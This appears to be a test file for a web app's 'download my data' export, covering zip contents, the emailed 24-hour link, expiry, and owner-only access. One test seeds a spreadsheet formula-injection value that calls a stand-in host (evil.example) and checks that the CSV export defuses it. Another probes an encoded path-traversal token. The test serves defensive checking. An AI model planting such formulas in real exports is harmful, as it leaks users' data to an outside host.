// 'Download my data': the owner asks, the queue builds the zip, the mail carries a link that works for 24 hours.
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import yauzl from 'yauzl';

import { verificationFileKeys } from '../../../../src/services/verifications/verification-files';
import { startMailCapture, type MailCapture } from '../../../helpers/mail-capture';
import { EDIT_ALL, sharedUser } from '../../../helpers/team';
import { createTemplate } from '../../../helpers/templates';
import { createTestApp } from '../../../helpers/test-app';
import { makePdf } from '../../../helpers/test-documents';
import { createVerification, signedInUser, type TestUser } from '../../../helpers/verifications';

import type { FastifyInstance } from 'fastify';

const EXPORT_URL = '/api/account/export/';

let mail: MailCapture;
let app: FastifyInstance;

beforeAll(async () => {
  mail = await startMailCapture();
});

afterAll(async () => {
  await mail.stop();
});

beforeEach(async () => {
  mail.clear();
  app = await createTestApp({ env: { SMTP_URL: mail.smtpUrl } });
});

afterEach(async () => {
  await app.close();
});

function unzip(zip: Buffer): Promise<Map<string, Buffer>> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(zip, { lazyEntries: true }, (error, file) => {
      if (error) return reject(error);
      const entries = new Map<string, Buffer>();
      file.on('entry', (entry: yauzl.Entry) => {
        file.openReadStream(entry, (streamError, stream) => {
          if (streamError) return reject(streamError);
          const chunks: Buffer[] = [];
          stream.on('data', (chunk: Buffer) => chunks.push(chunk));
          stream.on('end', () => {
            entries.set(entry.fileName, Buffer.concat(chunks));
            file.readEntry();
          });
        });
      });
      file.on('end', () => resolve(entries));
      file.on('error', reject);
      file.readEntry();
    });
  });
}

function postExport(user: TestUser) {
  return app.inject({ method: 'POST', url: EXPORT_URL, headers: user.headers });
}

/** Asks for an export and answers the link its mail carries. */
async function exportLink(user: TestUser): Promise<string> {
  const response = await postExport(user);
  expect(response.statusCode).toBe(202);
  const [message] = await mail.waitFor(user.email);
  const match = /https?:\/\/\S+\/api\/account\/exports\/[\w-]+\//.exec(message!.text);
  expect(match).not.toBeNull();
  return new URL(match![0]).pathname;
}

it('builds a zip of the account, its verifications, templates and documents, and mails a link to it', async () => {
  const owner = await signedInUser(app, { firstName: 'Ada', lastName: 'Byron' });
  await app.db
    .updateTable('users')
    .set({ organisation_name: 'University of X' })
    .where('id', '=', owner.id)
    .execute();
  await createTemplate(app, owner, { name: 'Diplomas' });
  const first = await createVerification(app, owner, {
    file: { name: 'diploma.pdf', data: await makePdf() },
    // What a shared editor or a bulk sheet can set: a spreadsheet must not run it.
    title: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    holder_name: 'Ada Lovelace',
  });
  const second = await createVerification(app, owner, {
    file: { name: 'transcript.pdf', data: await makePdf() },
    holder_name: 'Alan, "the" Turing',
  });

  const started = await postExport(owner);
  expect(started.statusCode).toBe(202);
  expect(started.json()).toEqual({ id: expect.any(String), status: 'pending' });
  const [message] = await mail.waitFor(owner.email);
  expect(message!.subject).toMatch(/ready/i);
  const link = /http:\/\/\S+\/api\/account\/exports\/[\w-]+\//.exec(message!.text)![0];
  expect(link.startsWith(app.config.PUBLIC_URL)).toBe(true);
  expect(message!.text).toMatch(/24 hours/);

  const download = await app.inject({ method: 'GET', url: new URL(link).pathname });
  expect(download.statusCode).toBe(200);
  expect(download.headers['content-type']).toBe('application/zip');
  const today = new Date().toISOString().slice(0, 10);
  expect(download.headers['content-disposition']).toContain(
    `attachment; filename="qr-verify-export-${today}.zip"`,
  );
  const entries = await unzip(download.rawPayload);

  const account = JSON.parse(entries.get('account.json')!.toString());
  expect(account).toMatchObject({
    email: owner.email,
    first_name: 'Ada',
    last_name: 'Byron',
    organisation_name: 'University of X',
    plan: { id: 'free', name: expect.any(String) },
  });

  const verifications = JSON.parse(entries.get('verifications.json')!.toString());
  const listed = (
    await app.inject({ method: 'GET', url: '/api/verifications/', headers: owner.headers })
  ).json().results;
  expect(verifications).toHaveLength(2);
  for (const item of listed) {
    expect(verifications).toContainEqual(item);
  }

  const csv = entries.get('verifications.csv')!.toString().trim().split('\n');
  expect(csv[0]).toMatch(/^id,code,title,holder_name,issue_date,expiry_date,status,/);
  expect(csv).toHaveLength(3);
  expect(csv.find((line) => line.includes(first.code))).toContain('Ada Lovelace');
  expect(csv.find((line) => line.includes(second.code))).toContain('"Alan, ""the"" Turing"');
  const rows = parse(entries.get('verifications.csv')!, { columns: true }) as Array<
    Record<string, string>
  >;
  const firstRow = rows.find((row) => row.code === first.code)!;
  expect(firstRow.title).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Open")`);

  const templates = JSON.parse(entries.get('templates.json')!.toString());
  expect(templates.map((t: { name: string }) => t.name)).toEqual(
    expect.arrayContaining(['Diplomas']),
  );
  expect(templates).toHaveLength(2);

  for (const [v, fileName] of [
    [first, 'diploma.pdf'],
    [second, 'transcript.pdf'],
  ] as const) {
    const keys = verificationFileKeys(v.id);
    expect(entries.get(`originals/${v.code}-${fileName}`)).toEqual(
      await app.storage.get(keys.original),
    );
    expect(entries.get(`secured/${v.code}.pdf`)).toEqual(await app.storage.get(keys.secured));
  }

  const latest = await app.inject({ method: 'GET', url: EXPORT_URL, headers: owner.headers });
  expect(latest.json()).toEqual({
    id: started.json().id,
    status: 'ready',
    created_at: expect.any(String),
    expires_at: expect.any(String),
  });
  const hoursLeft = (Date.parse(latest.json().expires_at) - Date.now()) / 3600_000;
  expect(hoursLeft).toBeGreaterThan(23.9);
  expect(hoursLeft).toBeLessThanOrEqual(24);
});

it('exports an empty account', async () => {
  const owner = await signedInUser(app);
  const entries = await unzip((await app.inject({ url: await exportLink(owner) })).rawPayload);
  expect(JSON.parse(entries.get('verifications.json')!.toString())).toEqual([]);
  expect(entries.get('verifications.csv')!.toString().trim().split('\n')).toHaveLength(1);
  expect([...entries.keys()].sort()).toEqual([
    'account.json',
    'templates.json',
    'verifications.csv',
    'verifications.json',
  ]);
});

it('answers 410 once the link has expired, and 404 for a token that opens nothing', async () => {
  const owner = await signedInUser(app);
  const path = await exportLink(owner);
  expect((await app.inject({ url: path })).statusCode).toBe(200);

  await app.db
    .updateTable('account_exports')
    .set({ expires_at: new Date(Date.now() - 1000) })
    .execute();
  const expired = await app.inject({ url: path });
  expect(expired.statusCode).toBe(410);
  expect(expired.json().error).toEqual({
    code: 'export_expired',
    message: 'This download link has expired. Ask for a new export from your account.',
  });
  const latest = await app.inject({ method: 'GET', url: EXPORT_URL, headers: owner.headers });
  expect(latest.json().status).toBe('expired');

  for (const token of ['A'.repeat(43), 'nonsense', '%2e%2e']) {
    const unknown = await app.inject({ url: `/api/account/exports/${token}/` });
    expect(unknown.statusCode).toBe(404);
  }
});

it('keeps one pending export per account: asking again answers the pending one', async () => {
  const owner = await signedInUser(app);
  const pending = await app.db
    .insertInto('account_exports')
    .values({ account_id: owner.id, requested_by: owner.id })
    .returning('id')
    .executeTakeFirstOrThrow();
  const again = await postExport(owner);
  expect(again.statusCode).toBe(202);
  expect(again.json()).toEqual({ id: pending.id, status: 'pending' });
  const rows = await app.db.selectFrom('account_exports').select('id').execute();
  expect(rows).toHaveLength(1);
});

it('answers null before any export, and refuses shared users', async () => {
  const owner = await signedInUser(app);
  const none = await app.inject({ method: 'GET', url: EXPORT_URL, headers: owner.headers });
  expect(none.statusCode).toBe(200);
  expect(none.json()).toBeNull();

  const shared = await sharedUser(app, owner, EDIT_ALL);
  const refused = await postExport(shared);
  expect(refused.statusCode).toBe(403);
  expect(refused.json().error.code).toBe('permission_denied');
  expect(refused.json().error.message).toMatch(/owner/i);
  const read = await app.inject({ method: 'GET', url: EXPORT_URL, headers: shared.headers });
  expect(read.statusCode).toBe(403);
  expect(await app.db.selectFrom('account_exports').select('id').execute()).toHaveLength(0);
});

it('lets the owner ask again when a pending export was lost (pending past every try of its job)', async () => {
  const owner = await signedInUser(app);
  const lost = await app.db
    .insertInto('account_exports')
    .values({ account_id: owner.id, requested_by: owner.id })
    .returning('id')
    .executeTakeFirstOrThrow();
  await sql`update account_exports set created_at = now() - interval '1 day'`.execute(app.db);
  const shown = await app.inject({ method: 'GET', url: EXPORT_URL, headers: owner.headers });
  expect(shown.json()).toMatchObject({ id: lost.id, status: 'failed' });

  const again = await postExport(owner);
  expect(again.statusCode).toBe(202);
  expect(again.json().id).not.toBe(lost.id);
  await mail.waitFor(owner.email);
  const rows = await app.db.selectFrom('account_exports').select(['id', 'status']).execute();
  expect(rows).toEqual(
    expect.arrayContaining([
      { id: lost.id, status: 'failed' },
      { id: again.json().id, status: 'ready' },
    ]),
  );
});
